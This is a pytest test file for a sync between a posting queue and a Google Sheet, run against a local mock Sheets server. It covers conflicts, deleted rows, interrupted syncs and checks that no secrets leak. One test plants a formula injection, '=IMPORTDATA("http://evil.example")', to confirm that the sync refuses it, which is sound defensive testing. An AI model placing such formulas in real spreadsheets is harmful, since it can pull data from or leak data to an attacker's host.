"""`queue sync` against a local server speaking Google's token endpoint and the Sheets
API: rows added, edited and deleted on either side, conflicts, columns marinade does not
know, formula cells, a sync interrupted half-way, and no secret anywhere it should not be."""

from __future__ import annotations

import json
import os
from datetime import datetime, timedelta, timezone

import pytest

from conftest import json_lines
from marinade.errors import MarinadeError
from marinade.publishing.accounts import add_account
from marinade.publishing.posting import post_due
from marinade.publishing.queue import Entry, add_to_queue, drop_item, edit_item
from marinade.publishing.sheet_sync import SHEET_COLUMNS, sync_sheet
from marinade.publishing.sheets import SheetClient, SheetSource
from marinade.publishing.spreadsheet import export_queue
from platform_server import PlatformServer
from sheets_server import ACCESS_TOKEN, CLIENT_SECRET, REFRESH_TOKEN, SheetsServer

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=timezone.utc)
HEADER = list(SHEET_COLUMNS)


@pytest.fixture
def sheets():
    with SheetsServer() as running:
        yield running


@pytest.fixture
def source(sheets, tmp_path):
    key = sheets.service_account_file(tmp_path)
    return SheetSource(sheets.state.spreadsheet_id, credentials=str(key), api_url=sheets.url)


@pytest.fixture
def box(store, tmp_path):
    add_account(store, "other", "outbox", {"path": str(tmp_path / "other.jsonl")})
    return add_account(store, "box", "outbox", {"path": str(tmp_path / "out.jsonl")}, True)


def sync(store, source, **options):
    return sync_sheet(store, source, now=lambda: NOW, **options)


def table(sheets):
    return sheets.state.grid().table()


def column(name):
    return HEADER.index(name)


def row_of(sheets, item_id):
    return next(row for row in table(sheets)[1:] if row[0] == str(item_id))


def test_the_first_sync_writes_the_header_and_every_item(store, sheets, source, box):
    ids = add_to_queue(store, [Entry("first post"), Entry("=1+1 is two")], now=NOW)
    report = sync(store, source)
    assert report.appended == ids and report.added == []
    rows = table(sheets)
    assert rows[0] == HEADER
    assert [(r[0], r[1], r[2], r[4]) for r in rows[1:]] == [
        (str(ids[0]), "box", "queued", "first post"),
        (str(ids[1]), "box", "queued", "=1+1 is two"),
    ]
    # RAW: a text starting with = is a text in the sheet, never a formula
    assert {body["valueInputOption"] for body in sheets.state.bodies} == {"RAW"}
    assert not any(cell.formula for cell in sheets.state.grid().cells.values())
    again = sync(store, source)  # nothing changed on either side: nothing is written
    assert (again.cells_written, again.added, again.updated) == (0, [], [])
    assert len(sheets.state.bodies) == 1


def test_rows_added_in_the_sheet_become_items_once(store, sheets, source, box):
    grid = sheets.state.grid()
    grid.put(
        [
            ["text", "account", "due_at", "notes"],
            ["typed on my phone", "", "", "for the morning"],
            ["to the other one", "other", "2026-12-01 09:00", ""],
        ]
    )
    report = sync(store, source)
    assert len(report.added) == 2 and report.appended == []
    first, second = (store.queue_item(i) for i in report.added)
    assert (first.text, first.account, first.status) == ("typed on my phone", "box", "queued")
    assert json.loads(first.extra) == {"notes": "for the morning"}
    # a text time without an offset is in the queue's timezone (UTC here), as `--at` is
    assert (second.account, second.due_at, second.pinned) == (
        "other",
        "2026-12-01T09:00:00+00:00",
        True,
    )
    rows = table(sheets)
    assert rows[0][:4] == ["text", "account", "due_at", "notes"]
    assert rows[0][4:] == [name for name in HEADER if name not in ("text", "account", "due_at")]
    id_column = rows[0].index("id")
    assert [r[id_column] for r in rows[1:]] == [str(i) for i in report.added]
    assert [r[rows[0].index("status")] for r in rows[1:]] == ["queued", "queued"]
    assert rows[1][3] == "for the morning"  # the user's column is left as it was
    again = sync(store, source)
    assert again.added == [] and again.cells_written == 0
    assert len(store.queue_items()) == 2


def test_edits_on_either_side_and_a_conflict(store, sheets, source, box):
    a, b, c = add_to_queue(store, [Entry("alpha"), Entry("beta"), Entry("gamma")], now=NOW)
    sync(store, source)
    grid = sheets.state.grid()
    text = column("text")
    rows = {int(r[0]): n for n, r in enumerate(table(sheets)) if n}
    grid.cells[(rows[a], text)].value = "alpha, edited in the sheet"
    edit_item(store, b, text="beta, edited in marinade")
    grid.cells[(rows[c], text)].value = "gamma from the sheet"
    edit_item(store, c, text="gamma from marinade")
    report = sync(store, source)
    assert report.updated == [a]
    assert store.queue_item(a).text == "alpha, edited in the sheet"
    assert row_of(sheets, b)[text] == "beta, edited in marinade"
    [conflict] = report.conflicts
    assert f"item {c}" in conflict and "text changed in the sheet and in marinade" in conflict
    assert store.queue_item(c).text == "gamma from marinade"  # left on both sides
    assert row_of(sheets, c)[text] == "gamma from the sheet"
    assert sync(store, source).conflicts == [conflict]  # until the user decides
    settled = sync(store, source, prefer="sheet")
    assert settled.conflicts == [] and store.queue_item(c).text == "gamma from the sheet"
    assert sync(store, source).conflicts == []


def test_prefer_queue_writes_marinades_side(store, sheets, source, box):
    [item] = add_to_queue(store, [Entry("one")], now=NOW)
    sync(store, source)
    sheets.state.grid().cells[(1, column("text"))].value = "sheet side"
    edit_item(store, item, text="queue side")
    assert sync(store, source).conflicts
    assert sync(store, source, prefer="queue").conflicts == []
    assert row_of(sheets, item)[column("text")] == "queue side"
    assert store.queue_item(item).text == "queue side"


def test_deleted_rows_and_dropped_items(store, sheets, source, box, tmp_path):
    queued, posted, dropped = add_to_queue(
        store, [Entry("delete me"), Entry("post me"), Entry("drop me")], now=NOW
    )
    edit_item(store, queued, at=NOW + timedelta(days=1))  # not due yet
    edit_item(store, dropped, at=NOW + timedelta(days=1))
    post_due(store, now=lambda: NOW)
    sync(store, source)
    grid = sheets.state.grid()
    rows = {int(r[0]): n for n, r in enumerate(table(sheets)) if n}
    for row in (rows[queued], rows[posted]):  # the user deletes two rows...
        for col in range(len(HEADER)):
            grid.cells.pop((row, col), None)
    drop_item(store, dropped)  # ...and marinade drops an item
    report = sync(store, source)
    assert report.dropped == [queued] and report.kept == [posted]
    assert {i.id for i in store.queue_items()} == {posted}
    assert row_of(sheets, dropped)[column("status")] == "dropped"
    later = sync(store, source)  # the posted item is not written again
    assert later.appended == [] and later.cells_written == 0


def test_a_deleted_row_of_an_item_edited_meanwhile_is_a_conflict(store, sheets, source, box):
    [item] = add_to_queue(store, [Entry("keep?")], now=NOW + timedelta(days=1))
    sync(store, source)
    sheets.state.grid().cells.clear()
    sheets.state.grid().put([HEADER])
    edit_item(store, item, text="edited after the row was deleted")
    report = sync(store, source)
    assert report.dropped == [] and "row was deleted" in report.conflicts[0]
    assert store.queue_item(item).text == "edited after the row was deleted"


def test_the_posted_state_is_written_back_and_posted_texts_stay(store, sheets, source, box):
    [item] = add_to_queue(store, [Entry("goes out")], now=NOW)
    sync(store, source)
    post_due(store, now=lambda: NOW)
    report = sync(store, source)
    row = row_of(sheets, item)
    posted = store.queue_item(item)
    assert row[column("status")] == "posted"
    assert row[column("remote_id")] == posted.remote_id
    assert row[column("posted_at")] == posted.posted_at
    assert report.rows_written == 1
    sheets.state.grid().cells[(1, column("text"))].value = "rewriting history"
    report = sync(store, source)
    assert report.not_editable == [item]
    assert store.queue_item(item).text == "goes out"
    assert row_of(sheets, item)[column("text")] == "goes out"  # put back, and reported


def test_unknown_columns_are_kept_and_never_written(store, sheets, source, box, tmp_path):
    grid = sheets.state.grid()
    grid.put([["text", "likes", "mood", "length"], ["with columns of my own", 12, "wry"]])
    grid.formula(1, 3, "=LEN(A2)", "22")  # a column of the user's own formulas
    [item] = sync(store, source).added
    assert json.loads(store.queue_item(item).extra) == {
        "likes": "12",
        "mood": "wry",
        "length": "=LEN(A2)",
    }
    assert grid.cells[(1, 3)].formula  # the user's formula is still a formula
    grid.cells[(1, 2)].value = "dry"
    assert sync(store, source).updated == [item]
    assert json.loads(store.queue_item(item).extra)["mood"] == "dry"
    export_queue(store, tmp_path / "queue.csv")  # and `queue export` carries them
    exported = (tmp_path / "queue.csv").read_text(encoding="utf-8-sig")
    assert "likes" in exported and "dry" in exported and "'=LEN(A2)" in exported


def test_a_formula_in_the_text_is_refused_and_nothing_changes(store, sheets, source, box):
    [item] = add_to_queue(store, [Entry("already here")], now=NOW)
    sync(store, source)
    grid = sheets.state.grid()
    grid.put([HEADER, [str(item), "box", "queued", "", "already here"], ["", "", "", "", "new"]])
    grid.formula(3, column("text"), '=IMPORTDATA("http://evil.example")', "#N/A")
    before_cells = {key: (c.value, c.formula) for key, c in grid.cells.items()}
    with pytest.raises(MarinadeError, match=r"\(Queue\), row 4: the text cell is a formula"):
        sync(store, source)
    assert [i.id for i in store.queue_items()] == [item]  # "new" was not added either
    assert {key: (c.value, c.formula) for key, c in grid.cells.items()} == before_cells


def test_a_bad_row_names_the_sheet_and_the_row(store, sheets, source, box):
    sheets.state.grid().put([["text", "account"], ["fine", ""], ["wrong account", "nobody"]])
    with pytest.raises(MarinadeError) as raised:
        sync(store, source)
    message = str(raised.value)
    assert "Queue), row 3: no account named nobody" in message and "nothing was synced" in message
    assert store.queue_items() == []
    assert table(sheets) == [["text", "account"], ["fine", ""], ["wrong account", "nobody"]]


@pytest.mark.parametrize("fault", ["500", "dropped connection"])
def test_a_sync_interrupted_half_way_applies_nothing(store, sheets, source, box, fault):
    [item] = add_to_queue(store, [Entry("edited in the sheet")], now=NOW + timedelta(days=1))
    sync(store, source)
    grid = sheets.state.grid()
    grid.cells[(1, column("text"))].value = "the new text"
    grid.cells[(2, column("text"))] = type(grid.cells[(1, 0)])("a new row")
    edit_item(store, item, at=NOW + timedelta(days=2))  # due time changed here: to write back
    before = table(sheets)
    if fault == "500":
        sheets.state.fail_writes = 1
    else:
        sheets.state.die_on_write = True
    with pytest.raises(MarinadeError, match="write"):
        sync(store, source)
    assert [(i.id, i.text) for i in store.queue_items()] == [(item, "edited in the sheet")]
    assert table(sheets) == before
    sheets.state.die_on_write = False
    report = sync(store, source)
    assert report.updated == [item] and len(report.added) == 1
    assert store.queue_item(item).text == "the new text"
    assert len(store.queue_items()) == 2 and len(sync(store, source).added) == 0


def test_a_sync_killed_after_the_sheet_took_the_write(store, sheets, source, box, monkeypatch):
    sheets.state.grid().put([["text"], ["row one"], ["row two"]])
    real_write = SheetClient.write

    def write_then_die(self, sheet, cells):
        real_write(self, sheet, cells)
        raise KeyboardInterrupt  # the process dies before the queue commits

    monkeypatch.setattr(SheetClient, "write", write_then_die)
    with pytest.raises(KeyboardInterrupt):
        sync(store, source)
    assert store.queue_items() == []  # rolled back, but the sheet holds ids now
    assert table(sheets)[1][1] != ""
    monkeypatch.setattr(SheetClient, "write", real_write)
    add_to_queue(store, [Entry("queued meanwhile")], now=NOW)  # takes one of those ids
    report = sync(store, source)
    assert len(report.added) == 2 and len(report.notes) == 2
    texts = sorted(i.text for i in store.queue_items())
    assert texts == ["queued meanwhile", "row one", "row two"]  # each once, none mixed up
    assert sync(store, source).added == []


def test_a_date_typed_in_the_sheet_is_in_the_sheets_timezone(store, sheets, source, box):
    # 2026-12-01 09:00 in Paris (UTC+1), as Sheets holds a date: days since 1899-12-30
    serial = (datetime(2026, 12, 1, 9, 0) - datetime(1899, 12, 30)).total_seconds() / 86400
    sheets.state.grid().put([["text", "due_at"], ["in the morning", serial]])
    [item] = sync(store, source).added
    assert store.queue_item(item).due_at == "2026-12-01T08:00:00+00:00"
    assert sync(store, source).cells_written == 0  # the date cell is left as the user typed it


def test_no_secret_in_the_database_the_output_or_the_sheet(cli, store, sheets, tmp_path, box):
    key_file = sheets.service_account_file(tmp_path)
    private_key = json.loads(key_file.read_text())["private_key"]
    add_to_queue(store, [Entry("from marinade")], now=NOW)
    sheet_id = sheets.state.spreadsheet_id
    args = ("queue", "sync", "--sheet", f"https://docs.google.com/spreadsheets/d/{sheet_id}/edit")
    first = cli(*args, "--credentials", str(key_file), "--api-url", sheets.url)
    assert first.exit_code == 0, first.output
    assert "1 rows appended" in first.stdout
    assert sheets.state.tokens_issued == 1  # the JWT was signed with the file's key
    os.environ["SHEETS_OAUTH"] = json.dumps(sheets.authorized_user_info())
    try:
        second = cli(*args, "--token-env", "SHEETS_OAUTH", "--json")
        assert second.exit_code == 0, second.output
        assert json_lines(second.stdout)[0]["cells_written"] == 0
        os.environ["SHEETS_OAUTH"] = ACCESS_TOKEN  # a bare access token works too
        assert cli(*args).exit_code == 0  # remembered: --token-env SHEETS_OAUTH, the URL
    finally:
        del os.environ["SHEETS_OAUTH"]
    secrets = [REFRESH_TOKEN, CLIENT_SECRET, ACCESS_TOKEN, private_key.splitlines()[1]]
    dump = "\n".join(store.db.conn.iterdump())
    cells = json.dumps(sheets.state.grid().values("FORMULA"))
    for secret in secrets:
        for where in (dump, first.output, second.output, cells):
            assert secret not in where
    remembered = json.loads(store.publishing_value(f"sheet:{sheet_id}"))
    assert remembered["token_env"] == "SHEETS_OAUTH" and remembered["credentials"] is None


def test_refused_credentials_are_one_line_without_the_secret(store, sheets, tmp_path, box):
    info = sheets.authorized_user_info() | {"refresh_token": "1//a-revoked-refresh-token"}
    os.environ["SHEETS_BAD"] = json.dumps(info)
    try:
        source = SheetSource(
            sheets.state.spreadsheet_id, token_env="SHEETS_BAD", api_url=sheets.url
        )
        with pytest.raises(MarinadeError) as raised:
            sync(store, source)
    finally:
        del os.environ["SHEETS_BAD"]
    assert "Google Sheet" in str(raised.value) and "\n" not in str(raised.value)
    assert "a-revoked-refresh-token" not in str(raised.value)
    readable = tmp_path / "open.json"
    readable.write_text(json.dumps(sheets.authorized_user_info()))
    readable.chmod(0o644)
    with pytest.raises(MarinadeError, match="can be read by others"):
        sync(store, SheetSource(sheets.state.spreadsheet_id, credentials=str(readable)))


def test_the_scheduler_syncs_the_sheet_before_posting(cli, store, sheets, tmp_path):
    with PlatformServer() as platform:
        add_account(store, "hook", "webhook", {"url": f"{platform.url}/hook", "timeout": 2})
        key_file = sheets.service_account_file(tmp_path)
        sheet_id = sheets.state.spreadsheet_id
        first = cli(
            "queue", "sync", "--sheet", sheet_id, "--credentials", str(key_file),
            "--api-url", sheets.url,
        )  # fmt: skip
        assert first.exit_code == 0, first.output
        sheets.state.grid().put([HEADER, ["", "", "", "", "from the sheet to the hook"]])
        ran = cli(
            "scheduler", "--passes", "2", "--every", "0", "--sync-sheet", sheet_id,
            "--sync-every", "0.0001",
        )  # fmt: skip
        assert ran.exit_code == 0, ran.output
        assert [made.text for made in platform.state.made] == ["from the sheet to the hook"]
        [row] = table(sheets)[1:]
        assert row[column("status")] == "posted"  # the second pass wrote the post back
        assert row[column("remote_id")] == platform.state.made[0].remote_id
        assert cli("scheduler", "--sync-every", "5", "--passes", "1").exit_code == 1


def test_two_syncs_at_once_add_each_row_once(store, sheets, source, box):
    import threading

    from marinade.store import Store

    sheets.state.grid().put([["text"], ["one"], ["two"]])
    reports: list = []
    start = threading.Barrier(2)

    def run():
        own = Store(store.path)
        start.wait()
        try:
            reports.append(sync_sheet(own, source, now=lambda: NOW))
        finally:
            own.close()

    threads = [threading.Thread(target=run) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(len(r.added) for r in reports) == [0, 2]  # the second read the ids
    assert sorted(i.text for i in store.queue_items()) == ["one", "two"]
